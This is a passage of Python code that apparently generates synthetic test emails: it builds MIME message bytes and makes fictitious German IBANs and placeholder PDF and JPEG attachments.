        text = CRLF.join(lines) + CRLF + CRLF + "This is a multi-part message in MIME format." + CRLF + CRLF + b
    else:
        text = CRLF.join(lines) + CRLF + CRLF + b + CRLF
    # 8bit bodies: the body charset decides the bytes; headers are ASCII by construction
    head, _, rest = text.partition(CRLF + CRLF)
    assert head.isascii(), (fname, [x for x in head.split(CRLF) if not x.isascii()])
    data = head.encode("ascii") + (CRLF + CRLF).encode() + rest.encode(m["charset"] if m["cte"] == "8bit" else "utf-8")
    return msgid, data


def iban_de(blz, konto, grouped=True):
    """A syntactically valid German IBAN (mod-97 checksum) for fictitious bank details."""
    bban = blz + konto.zfill(10)
    num = int("".join(str(int(c, 36)) for c in bban + "DE00"))
    iban = f"DE{98 - num % 97:02d}{bban}"
    return " ".join(iban[i:i + 4] for i in range(0, len(iban), 4)) if grouped else iban


def pdf(name, title=None, style="plain"):
    return (name, "application/pdf", fake_pdf(title or name), style)


def jpg(name, style="plain"):
    return (name, "image/jpeg", fake_jpeg(name), style)
